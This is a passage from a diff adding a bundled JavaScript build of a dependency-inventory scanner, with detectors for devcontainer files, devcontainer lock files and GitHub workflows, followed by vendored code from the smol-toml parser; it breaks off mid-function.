+    for (const list of [at(root, ['customizations', 'vscode', 'extensions']), at(root, ['extensions'])]) {
+        for (const n of strings(list)) {
+            const c = extensionComponent(strValue(n) ?? '', path, lineOf(n), DEVCONTAINER_SOURCE);
+            if (c)
+                components.push(c);
+        }
+    }
+    return { components, errors };
+}
+/** `publisher.name` or `publisher.name@1.2.3`; `-publisher.name` (a removal) yields nothing. */
+function extensionComponent(id, file, line, source) {
+    const m = /^\s*([A-Za-z0-9][\w-]*\.[A-Za-z0-9][\w.-]*)(?:@(.+))?\s*$/.exec(id);
+    if (!m)
+        return null;
+    const pin = m[2];
+    const version = pin && semverLike(pin) ? semverLike(pin) : null;
+    return makeComponent({
+        ecosystem: 'vscode-extension',
+        name: m[1].toLowerCase(),
+        version,
+        ...(version === null ? { spec: pin ?? 'latest' } : {}),
+        location: { file, line },
+        source,
+        sourceKind: 'registry',
+    });
+}
+/** The folder the lifecycle commands run in: the parent of `.devcontainer`, else the config's folder. */
+function workspaceRoot(path) {
+    const parts = path.split('/');
+    const i = parts.lastIndexOf('.devcontainer');
+    if (i >= 0)
+        return parts.slice(0, i).join('/');
+    return dirOf(path);
+}
+/**
+ * Scans a repository script run by a lifecycle command (or a local feature's install.sh); its
+ * components are located in the script, as the shell-script detector reports them. Follows the
+ * scripts it runs in turn. Returns whether the script exists.
+ */
+async function scanScriptFile(input, path, components, errors, env, visited) {
+    if (visited.has(path))
+        return true;
+    if (visited.size > 32)
+        return false;
+    const text = await input.readFile(path);
+    if (text === null)
+        return false;
+    visited.add(path);
+    const lines = new LineIndex(text);
+    const scanner = new CommandScanner(env);
+    scanner.scan(text, (o) => lines.line(o));
+    scanner.finish();
+    for (const f of scanner.findings)
+        components.push(findingComponent(f, path, SHELL_SCRIPT_SOURCE));
+    if (!/\.(sh|bash)$/.test(path))
+        for (const p of scanner.problems)
+            errors.push(problemError(p, path));
+    const dir = dirOf(path);
+    for (const run of scanner.scriptRuns) {
+        const p = joinRelative(dir, run.path);
+        const fromRoot = joinRelative('', run.path);
+        for (const candidate of [fromRoot, p]) {
+            if (candidate !== null &&
+                (await scanScriptFile(input, candidate, components, errors, new Map(), visited)))
+                break;
+        }
+    }
+    return true;
+}
+const devcontainerDetector = {
+    id: DEVCONTAINER_SOURCE,
+    matches: isDevcontainerPath,
+    detect: scanDevcontainer,
+};
+
+;// CONCATENATED MODULE: ./src/detectors/devcontainer-lock.ts
+
+
+
+
+
+const DEVCONTAINER_LOCK_SOURCE = 'devcontainer-lock.json';
+function scanDevcontainerLock({ path, text, limits, }) {
+    const lines = new LineIndex(text);
+    const { root, errors } = parseJsonc(text, path, lines, limits.maxDepth);
+    const components = [];
+    for (const f of props(at(root, ['features']))) {
+        const ref = featureRef(f.key);
+        const known = knownFeature(ref.name);
+        const featureVersion = strValue(at(f.value, ['version']));
+        const resolved = strValue(at(f.value, ['resolved']));
+        const integrity = strValue(at(f.value, ['integrity']));
+        // The lock records the feature's version, not the tool's: a feature that takes no version
+        // option installs its default; otherwise the tool version is set in devcontainer.json.
+        const toolDefault = known && !known.versionOption ? known.defaultVersion : undefined;
+        components.push(makeComponent({
+            ecosystem: 'devcontainer-feature',
+            name: ref.name,
+            version: null,
+            ...(toolDefault ? { spec: toolDefault } : {}),
+            location: { file: path, line: lines.line(f.keyNode.offset) },
+            source: DEVCONTAINER_LOCK_SOURCE,
+            sourceKind: ref.kind,
+            resolved: resolved ?? f.key,
+            ...(integrity ? { integrity } : {}),
+            ...(featureVersion
+                ? { versionNote: `feature version ${featureVersion} (the lock does not record the tool version)` }
+                : {}),
+        }));
+    }
+    return { components, errors };
+}
+const devcontainerLockDetector = {
+    id: DEVCONTAINER_LOCK_SOURCE,
+    matches: (p) => /(^|\/)\.?devcontainer-lock\.json$/.test(p),
+    detect: scanDevcontainerLock,
+};
+
+;// CONCATENATED MODULE: ./src/detectors/github-workflow.ts
+// GitHub workflows (`.github/workflows/*.yml|yaml`) and composite actions (`action.yml|yaml`):
+// `uses:` of actions and reusable workflows (tag, branch or commit SHA, at the `uses:` line),
+// the tool-version inputs of known AI actions, and the commands of `run:` steps, each at its own
+// line inside the block scalar. `${{ … }}` expressions are unknown values kept as written.
+
+
+
+
+
+
+const WORKFLOW_SOURCE = 'github-workflow';
+function isWorkflowPath(p) {
+    return /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(p) || /(^|\/)action\.ya?ml$/i.test(p);
+}
+/**
+ * Action inputs that set the version of the CLI an AI action installs, and the npm package of
+ * that CLI. Keys are `owner/repo` lowercased.
+ */
+const VERSION_INPUTS = {
+    'openai/codex-action': [{ input: 'codex-version', npm: '@openai/codex' }],
+    'google-github-actions/run-gemini-cli': [{ input: 'gemini_cli_version', npm: '@google/gemini-cli' }],
+    'google-gemini/gemini-cli-action': [{ input: 'gemini_cli_version', npm: '@google/gemini-cli' }],
+    'qwenlm/qwen-code-action': [{ input: 'qwen_cli_version', npm: '@qwen-code/qwen-code' }],
+};
+function scanWorkflow(input) {
+    const { path, text } = input;
+    const parsed = parseYaml(text, path, input.limits.maxDepth);
+    const errors = [...parsed.errors];
+    const components = [];
+    const { doc } = parsed;
+    const rootEnv = envOf(parsed, get(doc, doc.contents, 'env'), new Map());
+    const scanSteps = (steps, env) => {
+        for (const step of items(doc, steps)) {
+            const stepEnv = envOf(parsed, get(doc, step, 'env'), env);
+            usesOf(parsed, step, path, components);
+            const run = get(doc, step, 'run');
+            const script = str(run);
+            if (script !== undefined) {
+                const locate = scalarLocator(parsed.lines, run);
+                const scanner = new CommandScanner(new Map(stepEnv));
+                scanner.scan(script, (o) => locate(o, script));
+                scanner.finish();
+                for (const f of scanner.findings)
+                    components.push(findingComponent(f, path, WORKFLOW_SOURCE));
+                for (const p of scanner.problems)
+                    errors.push(problemError(p, path, 'run'));
+            }
+        }
+    };
+    for (const job of pairs(doc, get(doc, doc.contents, 'jobs'))) {
+        const jobEnv = envOf(parsed, get(doc, job.value, 'env'), rootEnv);
+        usesOf(parsed, job.value, path, components);
+        scanSteps(get(doc, job.value, 'steps'), jobEnv);
+    }
+    // Composite actions.
+    scanSteps(get(doc, get(doc, doc.contents, 'runs'), 'steps'), rootEnv);
+    return { components, errors };
+}
+function envOf(parsed, node, base) {
+    const env = new Map(base);
+    for (const p of pairs(parsed.doc, node)) {
+        const v = str(p.value);
+        if (v !== undefined)
+            env.set(p.key, { text: v, unknown: v.includes('${{') });
+    }
+    return env;
+}
+/** The `uses:` of a step or job, and the version inputs of known AI actions in its `with:`. */
+function usesOf(parsed, owner, file, out) {
+    const { doc, lines } = parsed;
+    const uses = get(doc, owner, 'uses');
+    const ref = str(uses);
+    if (ref === undefined || !(0,dist/* isScalar */.jn)(uses))
+        return;
+    const value = ref.trim();
+    if (value.startsWith('./') || value.startsWith('.\\') || value.startsWith('docker://'))
+        return;
+    const at = value.lastIndexOf('@');
+    if (at <= 0)
+        return;
+    const name = value.slice(0, at);
+    const version = value.slice(at + 1);
+    if (!/^[\w.-]+\/[\w.-]+(\/[^@\s]+)?$/.test(name) || !version)
+        return;
+    // The line of the `uses:` key: the pair's value starts on it (or the line below for a block).
+    const line = lineOf(lines, uses);
+    out.push(makeComponent({
+        ecosystem: 'github-action',
+        name,
+        version,
+        location: { file, line },
+        source: WORKFLOW_SOURCE,
+        sourceKind: 'git',
+    }));
+    const repo = name.split('/').slice(0, 2).join('/').toLowerCase();
+    for (const vi of VERSION_INPUTS[repo] ?? []) {
+        for (const p of pairs(doc, get(doc, owner, 'with'))) {
+            if (p.key !== vi.input)
+                continue;
+            const v = str(p.value)?.trim();
+            if (!v)
+                continue;
+            const exact = v.includes('${{') ? null : exactVersion(v);
+            out.push(makeComponent({
+                ecosystem: 'npm',
+                name: vi.npm,
+                version: exact,
+                ...(exact === null ? { spec: v } : {}),
+                location: { file, line: lineOf(lines, p.keyNode) },
+                source: WORKFLOW_SOURCE,
+                sourceKind: 'registry',
+            }));
+        }
+    }
+}
+const githubWorkflowDetector = {
+    id: WORKFLOW_SOURCE,
+    matches: isWorkflowPath,
+    detect: scanWorkflow,
+};
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/error.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+function getLineColFromPtr(string, ptr) {
+    let lines = string.slice(0, ptr).split(/\r?\n/);
+    return [lines.length, lines.pop().length + 1];
+}
+function makeCodeBlock(string, line, column) {
+    let lines = string.split(/\r?\n/);
+    let codeblock = '';
+    let numberLen = (Math.log10(line + 1) | 0) + 1;
+    for (let i = line - 1; i <= line + 1; i++) {
+        let l = lines[i - 1];
+        if (!l)
+            continue;
+        codeblock += i.toString().padEnd(numberLen, ' ');
+        codeblock += ':  ';
+        codeblock += l;
+        codeblock += '\n';
+        if (i === line) {
+            codeblock += ' '.repeat(numberLen + column + 2);
+            codeblock += '^\n';
+        }
+    }
+    return codeblock;
+}
+class TomlError extends Error {
+    line;
+    column;
+    codeblock;
+    constructor(message, options) {
+        const [line, column] = getLineColFromPtr(options.toml, options.ptr);
+        const codeblock = makeCodeBlock(options.toml, line, column);
+        super(`Invalid TOML document: ${message}\n\n${codeblock}`, options);
+        this.line = line;
+        this.column = column;
+        this.codeblock = codeblock;
+    }
+    /** @internal */
+    static x(message, ctx, ptr) {
+        throw new TomlError(message, { toml: ctx.s, ptr: ptr ?? ctx.p });
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/primitive.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function parseString(ctx) {
+    let startPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p++);
+    let first = c;
+    let isLiteral = c === 0x27; /* ' */
+    let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
+    if (isMultiline) {
+        // Trim initial newline
+        if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 0xa /* \n */)
+            ctx.p++;
+        else if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)
+            ctx.p += 2;
+    }
+    // For the record: it is not worth it to use a fast-path for literal strings using `indexOf`.
+    // Doing a char-by-char iteration ends up dispatching less instructions, for the same wall-clock runtime.
+    let parsed = '';
+    let sliceStart = ctx.p;
+    // states:
+    //   0 - decoding
+    //   1 - decoding escape
+    //   2 - whitespace escape (no newline encountered yet, must fail on non-whitespace)
+    //   3 - whitespace escape (newline encountered, allowed to transition back to normal decode)
+    let state = 0;
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        c = ctx.s.charCodeAt(ctx.p);
+        // Deal with newlines first, since that simplifies control character checking and handling across all states
+        if (isMultiline && (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */))) {
+            state = state && 3;
+        }
+        // Control characters are banned in TOML, so we throw an error if we encounter them
+        else if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in strings', ctx);
+        }
+        // The string might terminate while we're parsing through a newline escape.
+        // It must have encountered a newline; otherwise, it'll simply fail in another branch.
+        else if ((!state || state === 3) && c === first && (!isMultiline || (ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first))) {
+            if (isMultiline) {
+                // If the string ends with 4-5 quotes, then the first 1-2 are part of the string
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+            }
+            // If we're in a newline escape still, then there's nothing to add.
+            if (!state) {
+                // Avoid a useless concat operation if the string can be used as-is.
+                let s = ctx.s.slice(sliceStart, ctx.p);
+                parsed = parsed ? parsed + s : s;
+            }
+            ctx.p += isMultiline ? 3 : 1;
+            return parsed;
+        }
+        // Baseline state; keep moving forward unless an escape sequence starts
+        else if (!state) {
+            if (!isLiteral && c === 0x5c /* \ */) {
+                parsed += ctx.s.slice(sliceStart, (sliceStart = ctx.p));
+                state = 1;
+            }
+        }
+        else if (state === 1) {
+            if (c === 0x78 /* x */ || c === 0x75 /* u */ || c === 0x55 /* U */) { // Unicode escape
+                let errPtr = ctx.p++ - 1;
+                let value = 0;
+                let len = c === 0x78 /* x */ ? 2 : c === 0x75 /* u */ ? 4 : 8;
+                for (let j = 0; j < len; j++, ctx.p++) {
+                    let hex = ctx.s.charCodeAt(ctx.p);
+                    let digit = 
+                    /* 0-9 */ hex >= 0x30 && hex <= 0x39 ? hex - 0x30 :
+                        /* A-F */ hex >= 0x41 && hex <= 0x46 ? hex - 0x41 + 10 :
+                            /* a-f */ hex >= 0x61 && hex <= 0x66 ? hex - 0x61 + 10 : -1;
+                    if (digit < 0)
+                        TomlError.x('invalid non-hex character in unicode escape', ctx);
+                    value = (value << 4) | digit;
+                }
+                // Because JS does bitwise on signed 32bit integers, all 0xfzzzzzzz values are actually seen as negative
+                if (value < 0 || value > 0x10ffff || (value >= 0xd800 && value <= 0xdfff)) {
+                    TomlError.x('invalid unicode escape', ctx, errPtr);
+                }
+                parsed += String.fromCodePoint(value);
+                sliceStart = ctx.p--;
+                state = 0;
+            }
+            // Newline escape sequence. We only need to care about spaces and tabs; newlines are dealt with earlier
+            else if (isMultiline && (c === 0x20 || c === 0x9 /* \t */)) {
+                state = 2;
+            }
+            // Basic escape sequence
+            else {
+                if (c === 0x62 /* b */)
+                    parsed += '\b';
+                else if (c === 0x74 /* t */)
+                    parsed += '\t';
+                else if (c === 0x6e /* n */)
+                    parsed += '\n';
+                else if (c === 0x66 /* f */)
+                    parsed += '\f';
+                else if (c === 0x72 /* r */)
+                    parsed += '\r';
+                else if (c === 0x65 /* e */)
+                    parsed += '\x1b';
+                else if (c === 0x22 /* " */)
+                    parsed += '"';
+                else if (c === 0x5c /* \ */)
+                    parsed += '\\';
+                else
+                    TomlError.x('unrecognised escape sequence', ctx);
+                sliceStart = ctx.p + 1;
+                state = 0;
+            }
+        }
+        // Newline escape continuation: keep moving forward until the first non-whitespace char
+        else if (c !== 0x20 && c !== 0x9 /* \t */) {
+            if (state === 2)
+                TomlError.x('invalid escape: only line-ending whitespace may be escaped', ctx, sliceStart);
+            // State cannot be zero, or we'd have branched earlier already.
+            // If it's a backslash, immediately transition to the escape state so it can be processed.
+            state = !isLiteral && c === 0x5c /* \ */ ? 1 : 0;
+            sliceStart = ctx.p;
+        }
+    }
+    TomlError.x('unfinished string', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/date.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
+class TomlDate extends Date {
+    #hasDate = false;
+    #hasTime = false;
+    #offset = null;
+    constructor(date, fasttype, unsafeDelim) {
+        let hasDate = true;
+        let hasTime = true;
+        let offset = 'Z';
+        let c;
+        if (typeof date === 'string') {
+            if (fasttype)
+                prep: {
+                    // Date-time
+                    if (fasttype < 3) {
+                        if (+date.slice(11, 13) > 23) {
+                            date = '';
+                            break prep;
+                        }
+                        // Local
+                        if (fasttype === 2) {
+                            offset = null;
+                            date += 'Z';
+                        }
+                        // Offset; keep track of offset if not Z
+                        else if ((c = date.charCodeAt(date.length - 1)) !== 0x5a /* Z */ && c !== 0x7a /* z */) {
+                            offset = date.slice(date.length - 6);
+                        }
+                        if (unsafeDelim)
+                            date = date.slice(0, 10) + 'T' + date.slice(11);
+                    }
+                    // Time
+                    else if (fasttype === 4) {
+                        date = +date.slice(0, 2) > 23 ? '' : `0000-01-01T${date}Z`;
+                    }
+                    hasDate = fasttype !== 4;
+                    hasTime = fasttype !== 3;
+                }
+            else {
+                let match = date.match(DATE_TIME_RE);
+                if (match) {
+                    if (!match[1]) {
+                        hasDate = false;
+                        date = `0000-01-01T${date}`;
+                    }
+                    hasTime = !!match[2];
+                    // Make sure to use T instead of a space. Breaks in case of extreme values otherwise.
+                    hasTime && date[10] === ' ' && (date = date.replace(' ', 'T'));
+                    // Do not allow rollover hours.
+                    if (match[2] && +match[2] > 23) {
+                        date = '';
+                    }
+                    else {
+                        offset = match[3] || null;
+                        if (!offset && hasTime)
+                            date += 'Z';
+                    }
+                }
+                else {
+                    date = '';
+                }
+            }
+        }
+        super(date);
+        if (!isNaN(this.getTime())) {
+            this.#hasDate = hasDate;
+            this.#hasTime = hasTime;
+            this.#offset = offset;
+        }
+    }
+    isDateTime() {
+        return this.#hasDate && this.#hasTime;
+    }
+    isLocal() {
+        return !this.#hasDate || !this.#hasTime || !this.#offset;
+    }
+    isDate() {
+        return this.#hasDate && !this.#hasTime;
+    }
+    isTime() {
+        return this.#hasTime && !this.#hasDate;
+    }
+    isValid() {
+        return this.#hasDate || this.#hasTime;
+    }
+    toISOString() {
+        let iso = super.toISOString();
+        // Local Date
+        if (this.isDate())
+            return iso.slice(0, 10);
+        // Local Time
+        if (this.isTime())
+            return iso.slice(11, 23);
+        // Local DateTime
+        if (this.#offset === null)
+            return iso.slice(0, -1);
+        // Offset DateTime
+        if (this.#offset === 'Z' || this.#offset === 'z')
+            return iso;
+        // This part is quite annoying: JS strips the original timezone from the ISO string representation
+        // Instead of using a "modified" date and "Z", we restore the representation "as authored"
+        let offset = (+(this.#offset.slice(1, 3)) * 60) + +(this.#offset.slice(4, 6));
+        offset = this.#offset[0] === '-' ? offset : -offset;
+        let offsetDate = new Date(this.getTime() - (offset * 60e3));
+        return offsetDate.toISOString().slice(0, -1) + this.#offset;
+    }
+    static wrapAsOffsetDateTime(jsDate, offset = 'Z') {
+        let date = new TomlDate(jsDate);
+        date.#offset = offset;
+        return date;
+    }
+    static wrapAsLocalDateTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalDate(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasTime = false;
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasDate = false;
+        date.#offset = null;
+        return date;
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/extract.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function isDigit(char, base = 10) {
+    return base === 16
+        ? (char > 0x2f && char < 0x3a) || (char > 0x40 && char < 0x47) || (char > 0x60 && char < 0x67)
+        : (char > 0x2f && char < 0x30 + base);
+}
+function isEndOfValue(char, delim) {
+    // Whitespace -- we're permissive on `\r` for performance; it'll be dealt with later anyway
+    return char === 0x20 || char === 0x9 /* \t */ || char === 0xa /* \n */ || char === 0xd /* \r */ ||
+        // Structure end or next value delimiter
+        (delim && (char === delim || char === 0x2c /* , */)) ||
+        // Comment
+        char === 0x23; /* # */
+}
+/** @internal */
+function extractValue(ctx, end) {
+    let errPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p);
+    // Structs
+    if (c === 0x5b /* [ */ || c === 0x7b /* { */) {
+        ctx.d-- || TomlError.x('document contains excessively nested structures. aborting.', ctx);
+        let value = c === 0x5b /* [ */
+            ? parseArray(ctx)
+            : parseInlineTable(ctx);
+        ctx.d++;
+        return value;
+    }
+    // Strings
+    if (c === 0x22 /* " */ || c === 0x27 /* ' */) {
+        return parseString(ctx);
+    }
+    // Booleans
+    // We can fast-path because the first character is enough to know the only possible value
+    if (c === 0x74 /* t */) { // Only possible valid value is `true`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x72 || ctx.s.charCodeAt(++ctx.p) !== 0x75 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, true;
+    }
+    if (c === 0x66 /* f */) { // Only possible valid value is `false`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6c || ctx.s.charCodeAt(++ctx.p) !== 0x73 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, false;
+    }
+    if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+        return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 0x2c - c, end);
+    }
+    // Rough heuristic, but `parseDate` falls back to number parsing if it's a false positive.
+    // e.g.: `a = 1\n-------------- = 1` would match this heuristic, but gracefully fallback to numbers.
+    if (ctx.s.charCodeAt(ctx.p + 4) === 0x2d /* - */ && ctx.s.charCodeAt(ctx.p + 7) === 0x2d /* - */) {
+        return parseDate(ctx, c, end);
+    }
+    // Same logic as above; `parseTime` falls back to number parsing if it's a false positive.
+    if (ctx.s.charCodeAt(ctx.p + 2) === 0x3a /* : */) {
+        return parseTime(ctx, c, end);
+    }
+    return parseNumber(ctx, ctx.p, c, 0, end);
+}
+// State:
+// 0: init
+// 1: integer
+// 2: fractional dot
+// 3: fractional
+// 4: exponent letter
+// 5: exponent
+// 6: exponent sign
+// 7: exponent with sign
+// >9: underscore; see below
+//     -> 12: was integer
+//     -> 14: was fractional
+//     -> 16: was exponent
+// states 2-5, 14, 16 are ONLY permitted iif base === 10
+function parseNumber(ctx, startPtr, startChr, sign, endChr) {
+    let c = startChr;
+    let state = 0;
+    let hasUnderscores = false;
+    // (+/-)inf
+    if (c === 0x69 /* i */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x6e || ctx.s.charCodeAt(++ctx.p) !== 0x66)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, (sign || 1) / 0;
+    }
+    // (+/-)nan
+    if (c === 0x6e /* n */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6e)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, NaN;
+    }
+    // Leading zero
+    // Only allowed cases: `0<EOV>`, `0.(...)`, `0e(...)`, `0x(...)`, `0b(...)`, `0o(...)`
+    // FWIW, `0e(...)` is a stupid case, but it's not banned per-se so we have to parse it
+    if (c === 0x30 /* 0 */) {
+        if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
+            return ctx.bi === true ? 0n : 0; // note: conveniently deals with `-0`
+        if (!sign) {
+            if (c === 0x78 /* x */)
+                return parseIntegerBaseN(ctx, startPtr, 16, endChr);
+            else if (c === 0x62 /* b */)
+                return parseIntegerBaseN(ctx, startPtr, 2, endChr);
+            else if (c === 0x6f /* o */)
+                return parseIntegerBaseN(ctx, startPtr, 8, endChr);
+        }
+        if (c === 0x2e /* . */)
+            state = 2;
+        else if (c === 0x65 /* e */ || c === 0x45 /* E */)
+            state = 4;
+        else
+            TomlError.x('illegal leading zero', ctx, startPtr);
+    }
+    // If the 1st char is not a digit by now, then it's not a valid TOML value at all
+    else if (!isDigit(c))
+        TomlError.x('invalid value', ctx, startPtr);
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
